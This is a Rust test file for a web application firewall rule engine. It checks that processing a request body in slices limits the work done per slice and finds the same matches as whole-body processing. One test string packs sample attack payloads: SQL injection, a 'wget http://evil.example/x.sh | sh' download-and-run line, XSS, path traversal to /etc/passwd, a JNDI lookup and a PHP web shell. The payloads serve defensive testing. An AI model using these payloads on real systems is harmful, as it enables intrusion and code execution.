//! No slice is much longer than what it was given, whatever the body is.

mod core_rules;

use std::time::SystemTime;

use fusebox_seclang::{Ruleset, Slice, Transaction};

const FORM: &str = "application/x-www-form-urlencoded";
const JSON: &str = "application/json";

/// As long as a body may be that is no file.
const BODY: usize = 128 << 10;

fn bodies() -> Vec<(&'static str, &'static str, Vec<u8>)> {
    let attack = "1' UNION SELECT concat(user,0x3a) FROM mysql.user-- ;wget http://evil.example/x.sh | sh <svg/onload=alert(1)> \
                  ../../etc/passwd ${jndi:ldap://a} <?php system($_GET['c']);";
    let encoded: String = attack.bytes().map(|byte| format!("%{byte:02x}")).collect();
    let prose = "The handle feels solid and the blade stays sharp after a whole season. ";
    let mut noise = b"n=".to_vec();
    let symbols = b"'\"<>()[]{};:/\\|$`!~^*=,.-_#@? \tabeorsxn01";
    let mut state = 1_u32;
    while noise.len() < BODY {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        noise.extend(symbols.get((state >> 16) as usize % symbols.len()));
    }
    let tower = format!("{}1{}", "[".repeat(300), "]".repeat(300));
    vec![
        (
            "one value",
            FORM,
            format!("a={}", encoded.repeat(BODY / encoded.len())).into(),
        ),
        ("noise", FORM, noise),
        (
            "prose",
            FORM,
            format!("a={}", prose.repeat(BODY / prose.len()).replace(' ', "+")).into(),
        ),
        (
            "tiny",
            FORM,
            (0..8_000)
                .map(|n| format!("{n:x}='&"))
                .collect::<String>()
                .into(),
        ),
        (
            "names",
            FORM,
            (0..2_000)
                .map(|n| format!("select{n}%27from(&"))
                .collect::<String>()
                .into(),
        ),
        (
            "attacks",
            FORM,
            (0..300)
                .map(|n| format!("a{n}={encoded}&"))
                .collect::<String>()
                .into(),
        ),
        (
            "nested",
            JSON,
            format!("[{}]", vec![tower; 200].join(",")).into(),
        ),
    ]
}

fn begun(rules: &Ruleset, kind: &str, body: &[u8]) -> Transaction {
    let mut tx = rules.transaction(SystemTime::UNIX_EPOCH);
    tx.request_line(b"POST", b"/", b"HTTP/1.1");
    tx.request_header(b"Host", b"shop.example.com");
    tx.request_header(b"Content-Type", kind.as_bytes());
    tx.end_request_headers();
    tx.request_body(body);
    tx
}

fn found(tx: &Transaction) -> Vec<(u32, Vec<u8>)> {
    let found = tx.matches();
    found
        .map(|found| (found.rule_id(), found.data().to_vec()))
        .collect()
}

#[test]
fn no_slice_is_longer_than_its_share_by_more_than_a_step() {
    const SHARE: u64 = 64 << 10;
    /// What one step can be: a chain of transformations of one value, or a rule with all of them.
    const STEP: u64 = 5 * BODY as u64;
    /// A rule with all the names that a nested body has, of which each is that of all it is in.
    const ALL_NAMES: u64 = 18 * BODY as u64;
    let Some(folder) = core_rules::folder() else {
        return;
    };
    let setup = r#"
        SecRuleEngine DetectionOnly
        SecRequestBodyAccess On
        SecRule REQUEST_HEADERS:Content-Type "^application/json" "id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON"
        "#;
    let rules = Ruleset::builder()
        .text("setup", setup)
        .crs(folder)
        .build()
        .unwrap();
    for (name, kind, body) in bodies() {
        let mut whole = begun(&rules, kind, &body);
        let before = whole.work();
        whole.end_request_body();
        let all = whole.work() - before;
        let mut sliced = begun(&rules, kind, &body);
        let mut longest = 0;
        let mut slices = 0_u64;
        loop {
            let before = sliced.work();
            let slice = sliced.end_request_body_slice(SHARE);
            longest = longest.max(sliced.work() - before);
            slices += 1;
            if slice != Slice::More {
                break;
            }
        }
        assert_eq!(found(&sliced), found(&whole), "{name}");
        println!("{name}: {slices} slices, the longest {longest} of {all}");
        let step = if name == "nested" { ALL_NAMES } else { STEP };
        assert!(
            longest <= SHARE + step,
            "{name}: {longest} of {all} in one slice"
        );
        assert!(
            slices >= all / (SHARE + step),
            "{name}: {slices} slices for {all}"
        );
        // What was cut off is found again, not done again.
        assert!(sliced.work() <= whole.work() + all / 50, "{name}");
    }
}
